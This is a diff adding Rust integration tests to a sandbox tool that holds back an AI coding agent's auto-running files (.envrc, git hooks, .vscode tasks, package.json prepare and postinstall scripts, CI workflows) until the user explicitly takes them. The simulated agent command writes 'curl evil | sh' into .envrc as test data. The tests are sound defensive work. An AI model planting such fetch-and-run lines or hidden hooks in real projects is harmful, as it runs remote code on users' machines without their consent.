@@ -171,3 +171,82 @@ fn a_discard_asks_and_keeps_what_git_can_keep() {
     env.kapi(&["sandbox", "diff", "1"])
         .assert_error(6, &["no sandbox 1", "list"]);
 }
+
+#[test]
+fn files_that_run_by_themselves_are_held_back_until_they_are_asked_for() {
+    let env = Environment::new();
+    let plain = plain_project(&env);
+    let manifest = |script: &str| format!("{{\"scripts\": {{\"test\": \"t\", {script}}}}}\n");
+    write(&plain.join("package.json"), manifest("\"prepare\": \"p\""));
+    write(
+        &plain.join("web/package.json"),
+        manifest("\"prepare\": \"p\""),
+    );
+    let agent = "echo new > n.txt; echo 'curl evil | sh' > .envrc; mkdir -p .husky elsewhere; \
+                 echo x > .husky/pre-commit; echo x > elsewhere/tasks.json; ln -s elsewhere .vscode; \
+                 echo all: > Makefile; echo read > CLAUDE.md; \
+                 sed -i s/t/u/ package.json; sed -i 's/: .p./: \"q\"/' web/package.json";
+    launch_on(&env, "1", &plain, agent, &[]);
+    let held = [".envrc", ".husky/pre-commit", ".vscode", "web/package.json"];
+    let diff = env.json(&["sandbox", "diff", "1", "--stat"]);
+    let listed = diff["auto_run"].as_array().unwrap().iter();
+    let listed: Vec<&str> = listed.map(|one| one["path"].as_str().unwrap()).collect();
+    assert_eq!(listed, held, "{diff:#}");
+    let told = env.kapi(&["sandbox", "diff", "1", "--stat"]);
+    let line = "runs by itself: .envrc: direnv runs it in a shell that enters the directory\n";
+    assert!(told.stderr.contains(line), "{told:?}");
+
+    let output = env.kapi(&["sandbox", "merge", "1", "--json"]);
+    assert_eq!(output.code, 3, "{output:?}");
+    let refused = output.document();
+    let paths = refused["paths"].as_array().unwrap().iter();
+    let kept = paths.filter(|one| one["verdict"] == "held");
+    let kept: Vec<&str> = kept.map(|one| one["path"].as_str().unwrap()).collect();
+    assert_eq!(kept, held, "{refused:#}");
+    assert_eq!(refused["held"], 4, "{refused:#}");
+    assert!(!plain.join("n.txt").exists(), "all or nothing");
+    let told = env.kapi(&["sandbox", "merge", "1"]);
+    assert!(told.stderr.contains("--take-auto-run"), "{told:?}");
+
+    let some = env.json(&["sandbox", "merge", "1", "--on-conflict", "skip"]);
+    assert_eq!(
+        (&some["applied"], &some["held"]),
+        (&true.into(), &4.into()),
+        "{some:#}"
+    );
+    assert!(plain.join("n.txt").exists() && plain.join("Makefile").exists());
+    assert!(!plain.join(".envrc").exists() && !plain.join(".vscode").exists());
+    let manifest = fs::read_to_string(plain.join("web/package.json")).unwrap();
+    assert!(manifest.contains("\"prepare\": \"p\""), "{manifest}");
+
+    // One that is named is held back all the same; naming is not looking.
+    let named = env.kapi(&["sandbox", "merge", "1", ".envrc", "--json"]);
+    assert_eq!(
+        (named.code, &named.document()["held"]),
+        (3, &1.into()),
+        "{named:?}"
+    );
+    let all = env.json(&["sandbox", "merge", "1", "--take-auto-run"]);
+    assert_eq!(
+        (&all["applied"], &all["held"]),
+        (&true.into(), &0.into()),
+        "{all:#}"
+    );
+    assert!(plain.join(".envrc").exists() && plain.join(".husky/pre-commit").exists());
+}
+
+#[test]
+fn what_runs_by_itself_on_a_branch_is_named() {
+    let env = Environment::new();
+    let agent = "mkdir -p .github/workflows; echo x > .github/workflows/ci.yml; \
+                 echo '{\"scripts\": {\"postinstall\": \"x\"}}' > package.json; echo 42 > answer.txt";
+    launch(&env, "1", agent, &["--branch", "b"]);
+    let diff = env.json(&["sandbox", "diff", "1", "--stat"]);
+    let listed = diff["auto_run"].as_array().unwrap().iter();
+    let listed: Vec<&str> = listed.map(|one| one["path"].as_str().unwrap()).collect();
+    assert_eq!(
+        listed,
+        [".github/workflows/ci.yml", "package.json"],
+        "{diff:#}"
+    );
+}
